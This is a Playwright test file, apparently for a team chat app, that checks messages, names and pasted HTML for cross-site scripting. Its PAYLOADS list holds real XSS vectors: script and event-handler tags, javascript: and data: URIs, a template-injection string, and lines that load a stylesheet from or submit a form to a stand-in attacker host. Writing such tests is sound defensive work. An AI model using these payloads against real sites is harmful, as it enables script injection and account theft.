import { randomUUID } from 'node:crypto'
import { directChannelId } from '@corridor/contract/chat/rules.ts'
import type { Page } from '@playwright/test'
import { send } from './support/elsewhere.ts'
import { joinTeam, type Newcomer, openPractice } from './support/newcomers.ts'
import { expect, test } from './support/test.ts'
import { windowOf } from './support/windows.ts'

const RUN = 'window.ranHere=1'

/** Each would run where text is taken for markup, an address or a template. */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `"><svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">a link</a>`,
  `javascript:${RUN}`,
  `[a link](javascript:${RUN})`,
  `https://example.com/"onmouseover="${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}}`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<form action="https://evil.example"><input type=submit autofocus onfocus=${RUN}></form>`,
]

let owner: Newcomer
let member: Newcomer

test.beforeAll(async ({ origin }) => {
  owner = await openPractice(origin, 'Vera', `Elm <img src=x onerror="ranHere=1"> Dental`)
  member = await joinTeam(owner, 'Wade', 'Assistant')
})

const hasRun = (page: Page) => page.evaluate(() => 'ranHere' in window)

test('nothing that somebody writes, names or pastes runs in the browser of a reader', async ({
  browser,
  problems,
  origin,
}) => {
  const [ownId, otherId] = [owner, member].map(({ session }) => session.reply.givenName) as [string, string]
  const channelId = directChannelId(ownId, otherId)
  await send(`${origin}/api/v2/channels`, 'POST', { memberIds: [otherId] }, owner.session)
  for (const messageText of PAYLOADS) {
    const body = { id: randomUUID(), channelId, messageText }
    await send(`${origin}/api/v2/messages`, 'POST', body, member.session)
  }

  const page = await windowOf(browser, problems, owner)
  page.on('dialog', (dialog) => problems.note(`a dialog: ${dialog.message()}`))
  await page.goto(`/dashboard/chat?channelId=${encodeURIComponent(channelId)}`)
  const feed = page.getByRole('feed')
  for (const text of PAYLOADS) {
    const shown = feed.getByText(text, { exact: true }).first()
    await shown.scrollIntoViewIfNeeded()
    await shown.hover()
  }
  expect(await feed.locator('a[href^="javascript:" i], a[href^="data:" i]').count()).toBe(0)

  const box = page.getByRole('textbox', { name: /^Message / })
  await box.focus()
  await box.evaluate((element, payloads) => {
    const clipboardData = new DataTransfer()
    clipboardData.setData('text/html', payloads.join(''))
    clipboardData.setData('text/plain', 'as plain words')
    element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
  }, PAYLOADS)
  expect(await hasRun(page)).toBe(false)

  for (const path of ['/dashboard/office', '/dashboard/network', '/dashboard/account']) {
    await page.goto(path)
    await expect(page.getByRole('main')).toBeVisible()
    expect(await hasRun(page), path).toBe(false)
  }
})
